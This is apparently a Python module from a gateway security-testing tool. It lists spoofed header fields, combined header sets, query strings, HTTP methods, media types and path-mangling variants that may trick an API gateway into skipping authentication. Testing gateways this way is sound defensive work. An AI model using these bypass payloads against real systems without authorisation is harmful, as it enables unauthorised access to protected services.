"""Header fields, queries, media types, methods and paths with which a gateway may forget to authenticate a request."""

from __future__ import annotations

from chainproof.contract.header_fields import HeaderField


def _claims(value: str, names: str) -> tuple[HeaderField, ...]:
    """Header fields with one value, by their names in one text."""
    return tuple((name, value) for name in names.split())


SPOOFED_HEADERS: tuple[HeaderField, ...] = (
    # Claims about where the request comes from.
    *_claims("127.0.0.1", "X-Forwarded-For X-Real-IP X-Client-IP X-Originating-IP X-Remote-IP X-Remote-Addr"),
    *_claims("127.0.0.1", "X-Cluster-Client-IP True-Client-IP CF-Connecting-IP X-Custom-IP-Authorization Client-IP"),
    *_claims("127.0.0.1", "X-ProxyUser-Ip X-Envoy-External-Address"),
    ("X-Forwarded-For", "::1"),
    ("X-Forwarded-For", "10.0.0.1, 127.0.0.1"),
    ("X-Forwarded-For", "localhost"),
    ("Forwarded", "for=127.0.0.1;proto=https;host=localhost"),
    ("Via", "1.1 localhost"),
    *_claims("localhost", "X-Forwarded-Host X-Host X-Forwarded-Server"),
    ("X-Forwarded-Proto", "https"),
    ("X-Forwarded-Port", "443"),
    ("Origin", "null"),
    ("Origin", "http://localhost"),
    ("Referer", "http://localhost/admin"),
    # What may take another way through a gateway. Fields that Connection names are removed on the way.
    ("Expect", "100-continue"),
    ("Connection", "keep-alive, Authorization, X-Forwarded-For, X-Real-IP, X-Forwarded-User"),
    ("If-None-Match", "*"),
    # Claims about who sent it.
    *_claims(
        "admin", "X-Forwarded-User X-Authenticated-User X-Remote-User Remote-User X-User X-User-Id X-WEBAUTH-USER"
    ),
    *_claims("admin", "X-Auth-User X-Auth-Request-User X-Username X-Consumer-Username X-Role X-Roles"),
    *_claims("admin", "X-Forwarded-Groups X-Account-Id"),
    ("X-Authenticated", "true"),
    *_claims("1", "X-Authenticated-Userid X-Consumer-Id X-Credential-Identifier"),
    ("X-MS-Client-Principal", "eyJhdXRoX3R5cCI6ImFhZCJ9"),
    ("X-MS-Client-Principal-Id", "1"),
    ("X-Userinfo", "eyJzdWIiOiJhZG1pbiJ9"),
    ("X-Endpoint-API-UserInfo", "eyJzdWIiOiJhZG1pbiJ9"),
    ("Cf-Access-Authenticated-User-Email", "admin@example.com"),
    ("X-Amzn-Oidc-Identity", "admin"),
    ("X-Goog-Authenticated-User-Email", "admin@example.com"),
    ("X-Ssl-Client-Verify", "SUCCESS"),
    ("X-Client-Cert", "1"),
    ("X-Forwarded-Client-Cert", "By=spiffe://cluster.local;Hash=0"),
    ("Cookie", "authenticated=true; admin=1; role=admin; session=1"),
    # Claims about what it is for.
    *_claims("true", "X-Internal X-Internal-Request X-Debug X-Test X-Admin X-Health-Check X-Skip-Auth X-No-Auth"),
    *_claims("true", "X-Bypass-Auth X-Trusted X-Envoy-Internal X-Dev"),
    *_claims("1", "X-Internal X-Internal-Request X-Debug X-Test X-Admin X-Skip-Auth X-Trusted X-Probe"),
    ("X-Service-Name", "chain"),
    ("X-Request-Type", "internal"),
    ("X-Middleware-Subrequest", ":".join(["middleware"] * 5)),
    ("X-Requested-With", "XMLHttpRequest"),
    ("X-Original-URL", "/"),
    ("X-Original-URI", "/health"),
    ("X-Original-Method", "OPTIONS"),
    *_claims("/health", "X-Rewrite-URL X-Forwarded-URI"),
    ("X-Forwarded-Prefix", "/internal"),
    *_claims("OPTIONS", "X-Forwarded-Method X-HTTP-Method-Override"),
    ("X-HTTP-Method-Override", "GET"),
    *_claims("OPTIONS", "X-Method-Override X-HTTP-Method"),
    ("Access-Control-Request-Method", "POST"),
    ("User-Agent", "kube-probe/1.29"),
    ("User-Agent", "ELB-HealthChecker/2.0"),
    ("User-Agent", "GoogleHC/1.0"),
    ("User-Agent", "Envoy/HC"),
    ("User-Agent", "Prometheus/2.51.0"),
    ("User-Agent", "baseten/1.0"),
    ("User-Agent", "Googlebot/2.1 (+http://www.google.com/bot.html)"),
    ("User-Agent", "curl/8.5.0"),
    ("User-Agent", "UptimeRobot/2.0"),
    ("User-Agent", "health-check"),
    ("User-Agent", ""),
)
"""Header fields that claim another sender, origin or purpose."""

CLAIMS_TOGETHER: tuple[tuple[str, tuple[HeaderField, ...]], ...] = (
    # A gateway answers a preflight without a key. It must be OPTIONS: the fields alone say nothing.
    (
        "the fields of a preflight",
        (
            ("Origin", "https://example.com"),
            ("Access-Control-Request-Method", "POST"),
            ("Access-Control-Request-Headers", "authorization,content-type"),
        ),
    ),
    (
        "the fields of an internal request",
        (
            ("X-Forwarded-For", "127.0.0.1"),
            ("X-Real-IP", "127.0.0.1"),
            ("X-Forwarded-Host", "localhost"),
            ("X-Internal", "true"),
            ("X-Forwarded-User", "admin"),
        ),
    ),
    (
        "the fields of an authorised subrequest",
        (
            ("X-Original-URL", "/health"),
            ("X-Original-Method", "GET"),
            ("X-Forwarded-Uri", "/health"),
            ("X-Forwarded-Method", "GET"),
            ("X-Auth-Request-User", "admin"),
        ),
    ),
)
"""Claims that some gateways believe only if several fields make them."""

BYPASS_QUERIES = (
    "debug=1",
    "admin=true",
    "auth=false",
    "internal=1",
    "token=null",
    "key=",
    "api_key=",
    "test",
    "health",
    "user=admin",
)
"""Queries that may disable authentication where a developer left them in."""

OTHER_TYPES = (
    *("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "*/*", ""),
    *("application/grpc", "application/grpc-web+proto", "application/x-protobuf", "text/xml", "application/graphql"),
)
"""Media types that a gateway may treat in another way than JSON."""

BYPASS_METHODS = ("GET", "HEAD", "OPTIONS", "PUT", "PATCH", "DELETE", "QUERY", "TRACE", "post", "CHAINPROOF")


def bypass_paths(path: str) -> tuple[str, ...]:
    """Paths that a proxy may read as the operation's path while the target does not, or the other way round."""
    folder, _, name = path.rpartition("/")
    return (
        f"/{path}",
        f"{folder}//{name}",
        f"{path}/",
        f"{path}//",
        f"{path}/.",
        f"{folder}/./{name}",
        f"{folder}/x/../{name}",
        f"/health/..{path}",
        f"/health/%2e%2e{path}",
        f"/public/..;{path}",
        f"{path};x=1",
        f"{path};.css",
        f"{path}%20",
        f"{path}%00",
        f"{path}%0a",
        f"{path}%3f",
        f"{path}%23",
        f"{path}.json",
        f"{path}.css",
        f"{path}/x.css",
        f"{path}?/health",
        f"{path}?x.css",
        f"{folder}%2F{name}",
        f"{folder}%252F{name}",
        f"{folder}\\{name}",
        path.replace("_", "%5F"),
        path.replace("r", "%72", 1),
        path.upper(),
        path.title(),
        f"/api{path}",
        f"/internal{path}",
        f"/v1{path}",
    )
